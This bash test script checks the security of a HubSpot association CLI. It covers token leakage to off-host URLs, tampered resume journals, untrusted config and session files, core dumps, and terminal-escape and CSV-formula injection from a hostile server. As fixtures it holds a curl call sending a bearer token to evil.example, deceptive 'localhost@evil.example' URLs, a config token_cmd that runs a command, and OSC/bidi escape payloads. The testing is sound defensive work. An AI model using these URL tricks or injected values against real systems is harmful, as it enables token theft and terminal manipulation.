#!/usr/bin/env bash
# Security: where the token may go, which files are trusted, and what may
# reach the terminal (hubassoc(1), SECURITY).
. "$(dirname "$0")/sandbox_lib.sh"

SECRET=pat-na1-0123abcd-4567-89ef-0123-456789abcdef

# ---- the token goes only where it is safe --------------------------------
# A recording proxy: a sandbox reached through http_proxy, so that every
# request for a host off this machine lands in its log.  Loopback never
# goes through a proxy, so a request in this log is one that would leave.
sb_start --log "$T_TMP/proxy.log" || { not_ok "the proxy starts"; done_testing; exit 1; }
PROXY=$SB
curl -s -o /dev/null -x "$PROXY" -H "Authorization: Bearer $SECRET" "http://evil.example/crm/v4/x"
like "the proxy records what would leave" "$(cat "$T_TMP/proxy.log")" "evil.example"
: > "$T_TMP/proxy.log"
export http_proxy=$PROXY HTTP_PROXY=$PROXY https_proxy=$PROXY HTTPS_PROXY=$PROXY
unset no_proxy NO_PROXY

for u in 'http://localhost@evil.example' 'http://localhost.evil.example' \
	'http://127.evil.example' 'http://127.0.0.1:80@evil.example' \
	'http://[::1]@evil.example' 'http://evil.example' 'https://user:pw@evil.example' \
	'https://evil.example/?x=1' 'ftp://evil.example'; do
	HUBSPOT_ACCESS_TOKEN=$SECRET "$HUBASSOC" labels contacts companies --base-url "$u" > /dev/null 2> "$T_TMP/e"
	is "--base-url $u: refused before sending (exit 2)" "$?" 2
	like "--base-url $u: says why" "$(cat "$T_TMP/e")" "--base-url: "
	mkdir -p "$XDG_CONFIG_HOME/hubassoc"
	printf '[profile bad]\nbase_url = %s\n' "$u" > "$XDG_CONFIG_HOME/hubassoc/config"
	chmod 600 "$XDG_CONFIG_HOME/hubassoc/config"
	HUBSPOT_ACCESS_TOKEN=$SECRET "$HUBASSOC" labels contacts companies --profile bad > /dev/null 2> "$T_TMP/e"
	is "profile base_url = $u: refused (exit 3)" "$?" 3
	like "profile base_url = $u: names the line" "$(cat "$T_TMP/e")" "config:2: "
done
is "no request left for another host" "$(cat "$T_TMP/proxy.log")" ""
rm -f "$XDG_CONFIG_HOME/hubassoc/config"
# This machine in any form is reached directly, never through the proxy
# (before: 127.0.0.2 went to it, with the token, in the clear).
for u in http://127.0.0.2:9 http://127.1.2.3:9 'http://[::1]:9' http://localhost:9 \
	http://LOCALHOST:9 http://127.0.0.1:9; do
	: > "$T_TMP/proxy.log"
	HUBSPOT_ACCESS_TOKEN=$SECRET "$HUBASSOC" create contacts companies -t 279 -i - \
		--base-url "$u" --max-attempts 1 --no-preflight --no-progress <<< "1,2" \
		> /dev/null 2> "$T_TMP/e"
	is "--base-url $u: not through the proxy" "$(cat "$T_TMP/proxy.log")" ""
	like "--base-url $u: tried directly" "$(cat "$T_TMP/e")" "cannot reach"
done
unset http_proxy HTTP_PROXY https_proxy HTTPS_PROXY
sb_stop

# ---- resume sends only where the command line or profile says --------------
# A session stopped by the daily limit, with rows left to send.
sb_start --open-portal --token "$SECRET" --daily 3 || exit 1
open_pairs 20 > "$T_TMP/p20.csv"
HUBSPOT_ACCESS_TOKEN=$SECRET "$HUBASSOC" create contacts companies -t 279 -i "$T_TMP/p20.csv" \
	--base-url "$SB" --chunk 5 --concurrency 1 --no-progress 2>/dev/null >/dev/null
is "a session stopped by the daily limit" "$?" 5
sb_stop
J=$(journal_of)
id=$(basename "$J" .jsonl)
sb_start --open-portal --token "$SECRET" --log "$T_TMP/sb.log" || exit 1
# The journal is edited to point elsewhere.
point_journal() {
	{ head -n 1 "$J" | jq -c --arg u "$1" '.base_url = $u'; tail -n +2 "$J"; } > "$T_TMP/j"
	cat "$T_TMP/j" > "$J"
}
point_journal 'http://localhost@evil.example'
export http_proxy=$SB HTTP_PROXY=$SB; unset no_proxy NO_PROXY
HUBSPOT_ACCESS_TOKEN=$SECRET "$HUBASSOC" resume "$id" --no-progress > /dev/null 2> "$T_TMP/e"
is "resume: a journal's URL is not where the token goes (exit 2)" "$?" 2
like "resume: names the journal's URL" "$(cat "$T_TMP/e")" "was sent to http://localhost@evil.example"
like "resume: and where this command would send" "$(cat "$T_TMP/e")" "would send to https://api.hubapi.com"
HUBSPOT_ACCESS_TOKEN=$SECRET "$HUBASSOC" resume "$id" --base-url 'http://localhost@evil.example' --no-progress > /dev/null 2> "$T_TMP/e"
is "resume --base-url of the journal's bad URL: refused" "$?" 2
HUBSPOT_ACCESS_TOKEN=$SECRET "$HUBASSOC" resume "$id" --base-url "$SB" --no-progress > /dev/null 2> "$T_TMP/e"
is "resume to another URL than the journal's: refused" "$?" 2
like "it names both" "$(cat "$T_TMP/e")" "this command would send to $SB"
HUBSPOT_ACCESS_TOKEN=$SECRET "$HUBASSOC" resume "$id" --sandbox --no-progress > /dev/null 2> "$T_TMP/e"
is "resume --sandbox of a session sent elsewhere: refused" "$?" 2
unset http_proxy HTTP_PROXY
is "nothing reached any server" "$(grep -c . "$T_TMP/sb.log")" 0
# Pointed back at a sandbox: resumes there.
point_journal "$SB"
HUBSPOT_ACCESS_TOKEN=$SECRET "$HUBASSOC" resume "$id" --base-url "$SB/" --no-progress -o "$T_TMP/r.jsonl" 2> "$T_TMP/e"
is "resume with the journal's URL (a trailing slash aside): exit 0" "$?" 0
is "every row created" "$(jq -r .outcome "$T_TMP/r.jsonl" | sort | uniq -c | tr -s ' ')" " 20 created"
sb_stop

# ---- no core dump while a token is held ---------------------------------------
sb_start --open-portal --token "$SECRET" --latency 3000 || exit 1
open_pairs 3 > "$T_TMP/p3.csv"
HUBSPOT_ACCESS_TOKEN=$SECRET "$HUBASSOC" create contacts companies -t 279 -i "$T_TMP/p3.csv" \
	--base-url "$SB" --no-progress > /dev/null 2>&1 &
pid=$!
# Its limit, once it has set it (slower to start under a sanitizer): the
# request it waits on answers after 3 s.
for i in $(seq 50); do
	core=$(awk '/^Max core file size/ { print $5 "/" $6 }' "/proc/$pid/limits" 2>/dev/null)
	[ "$core" = "0/0" ] && break
	sleep 0.05
done
is "a running create may dump no core" "$core" "0/0"
kill -9 "$pid"; wait "$pid" 2>/dev/null
sb_stop

# ---- files holding state or commands are our own -----------------------------
sb_start --open-portal --token "$SECRET" --log "$T_TMP/sb2.log" || exit 1
open_pairs 3 > "$T_TMP/p3.csv"
mkdir -p "$XDG_CONFIG_HOME/hubassoc"
printf '[profile default]\nbase_url = %s\ntoken_cmd = touch %s/ran; echo %s\n' "$SB" "$T_TMP" "$SECRET" > "$XDG_CONFIG_HOME/hubassoc/config"
chmod 666 "$XDG_CONFIG_HOME/hubassoc/config"
env -u HUBSPOT_ACCESS_TOKEN "$HUBASSOC" create contacts companies -t 279 -i "$T_TMP/p3.csv" --no-progress 2> "$T_TMP/e"
is "a config others may write: exit 3" "$?" 3
like "a config others may write: says so" "$(cat "$T_TMP/e")" "may be written by group or others (mode 0666)"
[ -e "$T_TMP/ran" ] && not_ok "its token_cmd did not run" || ok "its token_cmd did not run"
chmod 600 "$XDG_CONFIG_HOME/hubassoc/config"
env -u HUBSPOT_ACCESS_TOKEN "$HUBASSOC" create contacts companies -t 279 -i "$T_TMP/p3.csv" --no-progress 2> "$T_TMP/e"
is "the same config, 0600: exit 0" "$?" 0
rm -f "$XDG_CONFIG_HOME/hubassoc/config" "$T_TMP/ran"

S=$XDG_STATE_HOME/hubassoc/sessions
AUTH_TOKEN=$SECRET
mv "$S" "$T_TMP/real-sessions"
mkdir -m 700 "$T_TMP/elsewhere"
ln -s "$T_TMP/elsewhere" "$S"
send contacts companies -t 279 -i "$T_TMP/p3.csv"
is "a sessions directory that is a link: exit 3" "$RC" 3
like "it says why" "$ERR" "is a symbolic link"
is "nothing was written there" "$(ls "$T_TMP/elsewhere" | wc -l)" 0
"$HUBASSOC" history > /dev/null 2> "$T_TMP/e"
is "history refuses it too" "$?" 3
rm "$S"
mv "$T_TMP/real-sessions" "$S"
chmod 777 "$S"
send contacts companies -t 279 -i "$T_TMP/p3.csv"
is "a sessions directory others may write: exit 3" "$RC" 3
like "it says why and what to do" "$ERR" "run chmod 700"
is "its mode is left as it was, not mended behind the user's back" "$(stat -c %a "$S")" 777
chmod 700 "$S"
if [ "$(id -u)" = 0 ]; then
	chown 65534 "$S"
	"$HUBASSOC" history > /dev/null 2> "$T_TMP/e"
	is "a sessions directory of another user: refused" "$?" 3
	like "it says whose" "$(cat "$T_TMP/e")" "belongs to another user"
	chown 0 "$S"
else
	skip "a sessions directory of another user" "needs root to chown"
	skip "it says whose" "needs root"
fi
send contacts companies -t 279 -i "$T_TMP/p3.csv"
is "mended by the user: sends again" "$RC" 0

# A journal named by its path is held to the sessions directory's trust:
# a file others may write, or in a directory others may write, does not
# drive undo's writes (before: any path was taken).
J=$(journal_of)
mkdir -m 700 "$T_TMP/own"
cp "$J" "$T_TMP/own/s.jsonl"
chmod 600 "$T_TMP/own/s.jsonl"
"$HUBASSOC" show "$T_TMP/own/s.jsonl" > /dev/null 2> "$T_TMP/e"
is "a journal by path, ours and 0600: read" "$?" 0
chmod 666 "$T_TMP/own/s.jsonl"
HUBSPOT_ACCESS_TOKEN=$SECRET "$HUBASSOC" undo "$T_TMP/own/s.jsonl" --yes --base-url "$SB" > /dev/null 2> "$T_TMP/e"
is "a journal others may write: undo refuses it (exit 2)" "$?" 2
like "it says why" "$(cat "$T_TMP/e")" "journal $T_TMP/own/s.jsonl may be written by group or others"
"$HUBASSOC" show "$T_TMP/own/s.jsonl" > /dev/null 2> "$T_TMP/e"
is "show refuses it too" "$?" 2
chmod 600 "$T_TMP/own/s.jsonl"
chmod 777 "$T_TMP/own"
"$HUBASSOC" show "$T_TMP/own/s.jsonl" > /dev/null 2> "$T_TMP/e"
is "a journal in a directory others may write: refused" "$?" 2
like "it names the directory" "$(cat "$T_TMP/e")" "$T_TMP/own, which holds"
chmod 700 "$T_TMP/own"
ln -s "$T_TMP/own/s.jsonl" "$T_TMP/own/link.jsonl"
"$HUBASSOC" show "$T_TMP/own/link.jsonl" > /dev/null 2> "$T_TMP/e"
is "a journal path that is a symbolic link: refused" "$?" 2
like "it says so" "$(cat "$T_TMP/e")" "is a symbolic link"
is "nothing was undone" "$(grep -c '"t":"undo' "$J")" 0
sb_stop

# The config's directory is checked as the state directories are: a
# directory others may write lets them put a config with a token_cmd in
# its place (before: only the file was checked).
C=$XDG_CONFIG_HOME/hubassoc
printf '[profile default]\ntoken_cmd = touch %s/ran2; echo x\n' "$T_TMP" > "$C/config"
chmod 600 "$C/config"
chmod 777 "$C"
env -u HUBSPOT_ACCESS_TOKEN "$HUBASSOC" labels contacts companies --base-url http://127.0.0.1:9 > /dev/null 2> "$T_TMP/e"
is "a config directory others may write: exit 3" "$?" 3
like "it says why" "$(cat "$T_TMP/e")" "may be written by group or others (mode 0777)"
[ -e "$T_TMP/ran2" ] && not_ok "its token_cmd did not run" || ok "its token_cmd did not run"
chmod 700 "$C"
# ... nor the one above it: who may write there may put another hubassoc/.
chmod 777 "$XDG_CONFIG_HOME"
env -u HUBSPOT_ACCESS_TOKEN "$HUBASSOC" labels contacts companies --base-url http://127.0.0.1:9 > /dev/null 2> "$T_TMP/e"
is "the directory above the config's others may write: exit 3" "$?" 3
like "it names it" "$(cat "$T_TMP/e")" "$XDG_CONFIG_HOME, which holds"
[ -e "$T_TMP/ran2" ] && not_ok "its token_cmd did not run either" || ok "its token_cmd did not run either"
chmod 700 "$XDG_CONFIG_HOME"
rm -f "$C/config"

# ---- server text is data, in every output format ------------------------------
# The hostile sandbox's messages carry a screen clear, a title, OSC 52 and
# OSC 8, a C1 CSI and a bidi override; its label 50 starts like a formula.
sb_start --open-portal --hostile --missing 999 || exit 1
printf "1,2\n3,999\n" > "$T_TMP/in.csv"
# Bytes a terminal acts on: C0 but TAB and LF, DEL, C1 (as UTF-8), bidi.
raw_controls() { LC_ALL=C grep -c -P '[\x00-\x08\x0b-\x1f\x7f]|\xc2[\x80-\x9f]|\xe2\x80[\xaa-\xae]|\xe2\x81[\xa6-\xa9]' "$1"; }
for f in csv jsonl json; do
	HUBSPOT_ACCESS_TOKEN=$TOKEN "$HUBASSOC" create contacts companies -t 279 -t USER_DEFINED:50 \
		-i "$T_TMP/in.csv" --base-url "$SB" --no-progress -o - --format "$f" > "$T_TMP/h.$f" 2>/dev/null
	like "create -o - --format $f: the hostile message is there" "$(cat "$T_TMP/h.$f")" "pwned"
	is "create -o - --format $f: no control or bidi byte" "$(raw_controls "$T_TMP/h.$f")" 0
	"$HUBASSOC" export last --format "$f" > "$T_TMP/e.$f"
	is "export --format $f: no control or bidi byte" "$(raw_controls "$T_TMP/e.$f")" 0
done
is "JSON keeps the text whole (\\u escapes read back)" \
	"$(jq -r 'select(.outcome == "failed") | .error.message' "$T_TMP/e.jsonl" | grep -c $'\e]52;c;')" 1
like "CSV shows the escapes" "$(cat "$T_TMP/e.csv")" '\e]52;c;cHduZWQ=\x07'
like "CSV: C1 and bidi visibly" "$(cat "$T_TMP/e.csv")" '\u{009b}31m\u{202e}desrever'
like "CSV: a label that starts like a formula is text" "$(cat "$T_TMP/e.csv")" "'=\e]0;pwned"
unlike "CSV: no cell starts with =" "$(cut -d, -f8 "$T_TMP/e.csv")" "^="
# show prints the input's name as text, whatever the file is called.
name=$(printf 'p\033]0;pwned\007.csv')
cp "$T_TMP/in.csv" "$T_TMP/$name"
HUBSPOT_ACCESS_TOKEN=$TOKEN "$HUBASSOC" create contacts companies -t 279 -i "$T_TMP/$name" \
	--base-url "$SB" --no-progress > /dev/null 2>&1
"$HUBASSOC" show last > "$T_TMP/show.txt"
like "show: the input's name, escaped" "$(cat "$T_TMP/show.txt")" 'p\e]0;pwned\x07.csv'
is "show: no control byte" "$(raw_controls "$T_TMP/show.txt")" 0
"$HUBASSOC" history > "$T_TMP/hist.txt"
is "history: no control byte" "$(raw_controls "$T_TMP/hist.txt")" 0
sb_stop

# A 400 with an edge proxy's HTML page: the rows fail with the status and
# the page's words, not with an empty error.
sb_start --open-portal --fail-400-html 1 --fault-only batch/create || exit 1
open_pairs 1 > "$T_TMP/p1.csv"
HUBSPOT_ACCESS_TOKEN=$TOKEN "$HUBASSOC" create contacts companies -t 279 -i "$T_TMP/p1.csv" \
	--base-url "$SB" --no-progress -o "$T_TMP/html.jsonl" 2> "$T_TMP/e"
is "a 400 HTML page: the row failed (exit 1)" "$?" 1
is "its message: the status and the page's text" "$(jq -r .error.message "$T_TMP/html.jsonl")" \
	"HTTP 400 with an HTML body of 208 bytes: 400 Bad Request Request Header Or Cookie Too Large cloudflare"
is "its HTTP status" "$(jq -r .http_status "$T_TMP/html.jsonl")" 400
sb_stop

done_testing
